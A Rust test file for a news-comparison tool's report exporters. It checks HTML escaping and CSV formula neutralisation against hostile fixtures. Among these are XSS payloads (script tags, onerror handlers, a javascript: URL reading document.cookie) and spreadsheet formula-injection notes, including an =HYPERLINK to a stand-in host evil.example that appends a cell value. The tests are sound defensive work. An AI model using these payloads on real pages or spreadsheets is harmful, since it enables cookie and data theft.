//! Every report format on the sample story, as golden snapshots with and
//! without a review session; and the formats people share (HTML, CSV)
//! against hostile articles and notes: markup stays text, only web links
//! are links, nothing is fetched, and no CSV cell can start a formula.

use std::path::Path;

use jiff::civil::date;
use parallax::analysis::{Analysis, Options, analyze};
use parallax::ingest::{self, ReadOptions};
use parallax::kb::Kb;
use parallax::report::{self, Provenance, ReportFormat, ReportOptions, csv::COLUMNS};
use parallax::review::{Review, SessionFile, Verdict};

mod common;
use common::{LATER, NOW, sample};

const FIXTURE: &str = "tests/fixtures/hostile-report";

/// What a spreadsheet may read as the start of a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The generation date is fixed so the HTML snapshot is stable.
fn made() -> Provenance {
    Provenance::new(date(2026, 11, 21), Kb::builtin().as_of)
}

/// A session with every kind of decision: accepted with a note of two
/// lines, rejected with a note full of markup, skipped, a note without a
/// verdict, and one decision whose finding is gone.
fn session(analysis: &Analysis) -> Review {
    let mut review = Review::new(analysis, SessionFile::new(analysis, "ana", NOW), "ana");
    review.decide(analysis, &[0], Verdict::Accept, NOW);
    review.note(
        analysis,
        0,
        "Checked the calendar.\nThe wire says Sunday too.",
        NOW,
    );
    review.decide(analysis, &[1], Verdict::Reject, LATER);
    review.note(analysis, 1, "<b>not</b> a *real* | issue: see `kb`", LATER);
    review.decide(analysis, &[2], Verdict::Skip, LATER);
    review.note(analysis, 3, "ask the desk", LATER);
    let mut file = review.file.clone();
    file.decisions.push(common::gone_decision(
        Some("fixed in the correction"),
        "ben",
        LATER,
    ));
    Review::new(analysis, file, "ana")
}

fn render(analysis: &Analysis, format: ReportFormat, review: Option<&Review>) -> String {
    let opts = ReportOptions {
        review,
        ..ReportOptions::default()
    };
    // The version is the one thing a release changes.
    report::render_with(analysis, format, opts, made)
        .replace(env!("CARGO_PKG_VERSION"), "[version]")
}

fn name(format: ReportFormat) -> &'static str {
    match format {
        ReportFormat::Text => "text",
        ReportFormat::Json => "json",
        ReportFormat::Md => "md",
        ReportFormat::Html => "html",
        ReportFormat::Csv => "csv",
    }
}

#[test]
fn every_format_of_the_sample_story_matches_its_snapshot() {
    let analysis = sample();
    let review = session(&analysis);
    for format in ReportFormat::ALL {
        let plain = render(&analysis, format, None);
        insta::assert_snapshot!(format!("{}_plain", name(format)), plain);
        let reviewed = render(&analysis, format, Some(&review));
        insta::assert_snapshot!(format!("{}_session", name(format)), reviewed);
    }
}

#[test]
fn the_tui_exports_every_format_with_its_extension() {
    for format in ReportFormat::ALL {
        let path = parallax::tui::export_path(format);
        let ext = path.extension().and_then(|e| e.to_str()).unwrap();
        let expected = match format {
            ReportFormat::Text => "txt",
            ReportFormat::Json => "json",
            ReportFormat::Md => "md",
            ReportFormat::Html => "html",
            ReportFormat::Csv => "csv",
        };
        assert_eq!(ext, expected);
        // A file in the current directory.
        assert_eq!(path.parent(), Some(Path::new("")));
    }
}

// ---- HTML ----

/// The tags of an HTML document. Every `<` of article text is escaped, so
/// each `<` left in the output opens a tag the template wrote.
fn tags(html: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let close = rest[open..].find('>').expect("a tag is closed") + open;
        out.push(&rest[open..=close]);
        rest = &rest[close + 1..];
    }
    out
}

/// The tags the template writes; anything else came from somewhere else.
const TEMPLATE_TAGS: &[&str] = &[
    "!DOCTYPE",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "div",
    "header",
    "h1",
    "h2",
    "h3",
    "p",
    "nav",
    "a",
    "main",
    "section",
    "article",
    "span",
    "dl",
    "dt",
    "dd",
    "code",
    "ul",
    "li",
    "b",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "mark",
    "figure",
    "figcaption",
    "blockquote",
    "time",
    "footer",
];

/// The style sheet and the rest of the page.
fn split_style(html: &str) -> (&str, String) {
    let open = html.find("<style>").expect("a style sheet") + "<style>".len();
    let close = html.find("</style>").expect("the style sheet ends");
    let rest = format!("{}{}", &html[..open], &html[close..]);
    (&html[open..close], rest)
}

/// Checks what the HTML report promises whatever the articles say: only
/// the template's tags, no event-handler attribute, no script, links only
/// to the page itself or to http(s) addresses, nothing loaded from
/// elsewhere.
fn assert_contained(html: &str) {
    let (css, page) = split_style(html);
    assert_eq!(html.matches("<style").count(), 1);
    for needle in ["url(", "@import", "<"] {
        assert!(!css.contains(needle), "{needle} in the style sheet");
    }
    assert!(!page.to_lowercase().contains("<script"), "a script tag");
    for tag in tags(&page) {
        let name: String = tag[1..]
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect();
        assert!(
            TEMPLATE_TAGS.contains(&name.as_str()),
            "unexpected tag {tag}"
        );
        let attributes = tag.to_lowercase();
        let names: Vec<&str> = attributes
            .split_whitespace()
            .skip(1)
            .filter_map(|a| a.split_once('=').map(|(n, _)| n))
            .collect();
        assert!(
            !names
                .iter()
                .any(|n| n.starts_with("on") || *n == "src" || *n == "srcset"),
            "an event handler or a source in {tag}"
        );
        assert!(!attributes.contains("javascript:"), "javascript: in {tag}");
        if let Some(at) = attributes.find("href=\"") {
            let target = &attributes[at + 6..];
            assert!(
                target.starts_with('#')
                    || target.starts_with("http:&#x2f;&#x2f;")
                    || target.starts_with("https:&#x2f;&#x2f;"),
                "a link off the page that is not http(s): {tag}"
            );
        }
    }
}

fn hostile() -> Analysis {
    let read = ingest::read_inputs(&[FIXTURE.into()], &ReadOptions::default());
    assert!(read.errors.is_empty(), "{:?}", read.errors);
    assert_eq!(read.articles.len(), 2);
    analyze(read.articles, Kb::builtin(), &Options::default())
}

/// A note written to break out of HTML and into a spreadsheet.
const HOSTILE_NOTE: &str = "<script>alert('note')</script><img src=x onerror=alert(2)>\n\
                            <a href=\"javascript:alert(3)\">click</a>\n=HYPERLINK(\"http://x\")";

#[test]
fn hostile_articles_and_notes_stay_text_in_html() {
    let analysis = hostile();
    assert!(
        !analysis.findings.is_empty(),
        "the fixture's articles disagree on a number"
    );
    let first = &analysis.findings[0];
    let hostile_quoted = first.evidence.iter().any(|e| {
        let a = &analysis.articles[e.article];
        a.article.text.contains("<script>") && a.article.path.ends_with("hostile.json")
    });
    assert!(hostile_quoted, "the hostile article is evidence");
    let mut review = Review::new(&analysis, SessionFile::new(&analysis, "<i>x</i>", NOW), "x");
    review.decide(&analysis, &[0], Verdict::Reject, NOW);
    review.note(&analysis, 0, HOSTILE_NOTE, NOW);

    for review in [None, Some(&review)] {
        let html = render(&analysis, ReportFormat::Html, review);
        assert_contained(&html);
        // The hostile text is there, as text: in the title, the outlet
        // and the evidence sentence.
        assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;Prisoners freed"));
        assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;Evil Outlet"));
        // (A differing number in it may be marked: the marks are ours.)
        let unmarked = html
            .replace("<span class=\"diff\">", "")
            .replace("</span>", "");
        assert!(unmarked.contains("&lt;a href=&quot;javascript:alert(1)&quot;&gt;(details)"));
        assert!(html.contains("=HYPERLINK(&quot;http:&#x2f;&#x2f;evil.example"));
        // A javascript: URL is shown, never linked.
        assert!(html.contains("<code>javascript:alert(document.cookie)</code> (not linked"));
    }
    let html = render(&analysis, ReportFormat::Html, Some(&review));
    assert!(html.contains("&lt;script&gt;alert(&#x27;note&#x27;)&lt;&#x2f;script&gt;"));
    assert!(html.contains("Review by &lt;i&gt;x&lt;&#x2f;i&gt;:"));
}

#[test]
fn the_sample_story_in_html_is_one_self_contained_page() {
    let analysis = sample();
    let review = session(&analysis);
    for review in [None, Some(&review)] {
        let html = render(&analysis, ReportFormat::Html, review);
        assert_contained(&html);
        assert!(html.starts_with("<!DOCTYPE html>\n"));
        assert!(html.contains("<meta name=\"viewport\""));
        assert!(html.contains("@media (max-width: 700px)"));
        assert!(html.contains("@media print"));
        assert!(
            html.contains("default-src &#x27;none&#x27;") || html.contains("default-src 'none'")
        );
        // Every source of every finding, side by side.
        let sources: usize = analysis
            .findings
            .iter()
            .map(|f| {
                let mut articles: Vec<usize> = f.evidence.iter().map(|e| e.article).collect();
                articles.sort_unstable();
                articles.dedup();
                articles.len()
            })
            .sum();
        assert_eq!(html.matches("<figure class=\"source\">").count(), sources);
        // What produced it.
        assert!(html.contains(
            "Produced by Parallax [version] on <time datetime=\"2026-11-21\">21 November 2026</time> · knowledge base as of 31 October 2025."
        ));
    }
}

#[test]
fn html_marks_the_evidence_and_the_numbers_that_differ() {
    let analysis = sample();
    let html = render(&analysis, ReportFormat::Html, None);
    // The number conflict: 95 in one source, 90 in the others.
    assert!(html.contains(
        "<mark class=\"ev diff\">95</mark><mark class=\"ev\"> Palestinian prisoners</mark>"
    ));
    assert!(html.contains(
        "<mark class=\"ev diff\">90</mark><mark class=\"ev\"> Palestinian prisoners</mark>"
    ));
    // The KB reference with its dates as people write them; its id only in
    // the details line.
    assert!(html.contains(
        "<dt>Checked against</dt><dd>Minister of Defense of Israel, 29 December 2022 to 7 November 2024</dd>"
    ));
    assert!(html.contains("knowledge base <code>il-defense-minister</code>"));
}

// ---- CSV ----

fn parse(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
        .collect()
}

/// No cell a spreadsheet could take for a formula; returns how many cells
/// were neutralised (start with `'` followed by a formula character).
fn assert_no_formula(rows: &[Vec<String>]) -> usize {
    let mut neutralised = 0;
    for row in rows {
        assert_eq!(row.len(), COLUMNS.len(), "{row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_START),
                "formula cell {cell:?} in {row:?}"
            );
            if cell.starts_with('\'') && cell[1..].starts_with(FORMULA_START) {
                neutralised += 1;
            }
        }
    }
    neutralised
}

#[test]
fn csv_has_the_documented_columns_and_a_row_per_evidence_span() {
    let analysis = sample();
    let review = session(&analysis);
    let rows = parse(&render(&analysis, ReportFormat::Csv, Some(&review)));
    assert_eq!(rows[0], COLUMNS);
    assert_eq!(
        COLUMNS.join(","),
        "finding_id,kind,severity,confidence,summary,article,path,line,column,quote,suggestion,verdict,note"
    );
    let spans: usize = analysis.findings.iter().map(|f| f.evidence.len()).sum();
    assert_eq!(rows.len(), 1 + spans);
    // Each quote is exactly the file's bytes at that line and column.
    for row in &rows[1..] {
        let a = analysis
            .articles
            .iter()
            .find(|a| a.article.id == row[5])
            .unwrap();
        assert_eq!(a.article.path, row[6]);
        let line: usize = row[7].parse().unwrap();
        let column: usize = row[8].parse().unwrap();
        let text = a.article.source.lines().nth(line - 1).unwrap();
        let from: String = text.chars().skip(column - 1).collect();
        assert!(
            from.starts_with(&row[9]) || row[9].contains('\n'),
            "{row:?}"
        );
    }
    // Verdicts and notes of the session, on every row of their finding.
    let verdicts = |f: usize| -> Vec<(&str, &str)> {
        rows[1..]
            .iter()
            .filter(|r| r[0] == analysis.findings[f].id)
            .map(|r| (r[11].as_str(), r[12].as_str()))
            .collect()
    };
    let note = "Checked the calendar.\nThe wire says Sunday too.";
    assert!(verdicts(0).iter().all(|&v| v == ("accept", note)));
    assert!(verdicts(1).iter().all(|&(v, _)| v == "reject"));
    assert!(verdicts(2).iter().all(|&v| v == ("skip", "")));
    assert!(verdicts(3).iter().all(|&v| v == ("", "ask the desk")));
    assert!(verdicts(4).iter().all(|&v| v == ("", "")));
    assert_eq!(assert_no_formula(&rows), 0);
}

#[test]
fn csv_neutralises_every_cell_that_could_start_a_formula() {
    // Read as a user in that directory would name them, the second file
    // with a name that starts like a formula.
    let hostile = std::fs::read_to_string(format!("{FIXTURE}/hostile.json")).unwrap();
    let plain = std::fs::read_to_string(format!("{FIXTURE}/plain.txt")).unwrap();
    let mut articles = vec![
        ingest::read_str("hostile.json", &hostile).unwrap(),
        ingest::read_str("-2 plain.txt", &plain).unwrap(),
    ];
    articles[0].id = "a1".to_string();
    articles[1].id = "a2".to_string();
    let analysis = analyze(articles, Kb::builtin(), &Options::default());
    assert!(!analysis.findings.is_empty());

    let notes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1",
        "-2",
        "@SUM(A1)",
        "\tcmd",
        "\rcmd",
        "＝1+1",
    ];
    for note in notes {
        let mut review = Review::new(&analysis, SessionFile::new(&analysis, "=x", NOW), "=x");
        review.decide(&analysis, &[0], Verdict::Accept, NOW);
        review.note(&analysis, 0, note, NOW);
        let rows = parse(&render(&analysis, ReportFormat::Csv, Some(&review)));
        let neutralised = assert_no_formula(&rows);
        let stored = review.decision(0).unwrap().note.clone().unwrap();
        // The note keeps its text behind the quote, on every row of its
        // finding (a carriage return, which a terminal would obey, shown
        // as U+FFFD); so does the path.
        let of_finding = rows[1..].iter().filter(|r| r[0] == analysis.findings[0].id);
        assert!(of_finding.clone().count() >= 2);
        let shown = stored.replace('\r', "\u{FFFD}");
        assert!(
            of_finding.clone().all(|r| r[12] == format!("'{shown}")),
            "{rows:?}"
        );
        assert!(rows.iter().any(|r| r[6] == "'-2 plain.txt"));
        assert!(neutralised >= 1);
    }
}

#[test]
fn the_cli_writes_html_and_csv() {
    let csv = common::parallax()
        .args(["report", "--format", "csv", FIXTURE])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let rows = parse(&String::from_utf8(csv).unwrap());
    assert_eq!(rows[0], COLUMNS);
    assert!(rows.len() > 1);
    assert_no_formula(&rows);

    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("report.html");
    common::parallax()
        .args(["report", "--format", "html", "-o"])
        .arg(&out)
        .arg(FIXTURE)
        .assert()
        .success();
    let html = std::fs::read_to_string(&out).unwrap();
    assert_contained(&html);
    assert!(html.contains("knowledge base as of 31 October 2025"));
}

/// What an editor reads, with the details lines (`<p class="meta">`) and
/// the articles' File lines taken out, and every tag (its attributes with
/// it).
fn for_an_editor(html: &str) -> String {
    let kept: Vec<&str> = html
        .lines()
        .filter(|l| !l.starts_with("<p class=\"meta\">") && !l.starts_with("<dt>File</dt>"))
        .collect();
    let body = kept.join("\n");
    let body = &body[body.find("<body>").expect("a body")..];
    let mut out = String::new();
    let mut in_tag = false;
    for c in body.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out.replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&#x2f;", "/")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// The HTML report of the sample story and an untitled article, with one
/// verdict by a reviewer known only as "unknown".
fn html_with_an_untitled_article_and_an_unnamed_reviewer() -> String {
    let dir = tempfile::tempdir().unwrap();
    let untitled = dir.path().join("quay-gazette.md");
    std::fs::write(
        &untitled,
        "---\noutlet: Quay Gazette\ndate: 2025-01-20\n---\n\n\
         In return, 95 Palestinian prisoners were freed from Ofer prison on Monday.\n",
    )
    .unwrap();
    let session = dir.path().join("s.json");
    let samples = common::in_crate("assets/samples");
    let run = |args: &[&str]| {
        common::parallax()
            .args(args)
            .arg("--session")
            .arg(&session)
            .arg(&untitled)
            .arg(&samples)
            .output()
            .unwrap()
    };
    let listed = String::from_utf8(run(&["review", "--list"]).stdout).unwrap();
    let id = listed
        .lines()
        .next()
        .and_then(|l| l.split('\t').next())
        .unwrap();
    let set = run(&["review", "--reviewer", "unknown", "--set", id, "accept"]);
    assert!(set.status.success());
    String::from_utf8(run(&["report", "-f", "html"]).stdout).unwrap()
}

/// Issue 16: the shared page names sources by outlet and title, writes
/// dates as people do, says confidence in words, and keeps file paths,
/// ids and the analysis' numbers to the details lines.
#[test]
fn the_html_report_speaks_to_an_editor() {
    let html = html_with_an_untitled_article_and_an_unnamed_reviewer();
    let text = for_an_editor(&html);
    for jargon in [
        "similarity",
        "aligned",
        "(no title)",
        "Review by unknown",
        "by unknown",
        "assets/samples",
        "il-defense-minister",
        "confidence 0.",
    ] {
        assert!(!text.contains(jargon), "{jargon:?} in:\n{text}");
    }
    let iso = text.as_bytes().windows(10).find(|w| {
        w.iter().enumerate().all(|(i, b)| {
            if i == 4 || i == 7 {
                *b == b'-'
            } else {
                b.is_ascii_digit()
            }
        })
    });
    assert!(
        iso.is_none(),
        "an ISO date: {:?}",
        iso.map(String::from_utf8_lossy)
    );
    // Sources by outlet (the file's name for a missing title), dates and
    // confidence in words.
    assert!(text.contains("quay-gazette.md"), "{text}");
    assert!(text.contains("Levant Daily Monitor says \"95 Palestinian prisoners\""));
    assert!(text.contains("on 19 January 2025 it was held by Israel Katz"));
    assert!(text.contains("Review: 1 of "), "{text}");
    assert!(text.contains("almost certain") && text.contains("likely"));
    assert!(text.contains("numbers disagree"));
    // The paths are in the details lines.
    assert!(html.contains("<p class=\"meta\">Details: id <code>"));
    assert!(html.contains("01-harbour-ledger.md (line 21, column 98; line 13, column 80)"));
}

// ---- Markdown ----

#[test]
fn a_pipe_in_a_path_stays_in_its_markdown_table_cell() {
    let article = ingest::read_str("a|b.txt", "Talks resumed on Monday.\n").unwrap();
    let analysis = analyze(vec![article], Kb::builtin(), &Options::default());
    let md = render(&analysis, ReportFormat::Md, None);
    let row = md.lines().find(|l| l.starts_with("| a1 |")).unwrap();
    assert!(row.ends_with("| `a\\|b.txt` |"), "{row}");
    // GitHub reads `\|` in a table as the pipe itself: five cells.
    let cells = row.replace("\\|", "").matches('|').count() - 1;
    assert_eq!(cells, 5, "{row}");
}
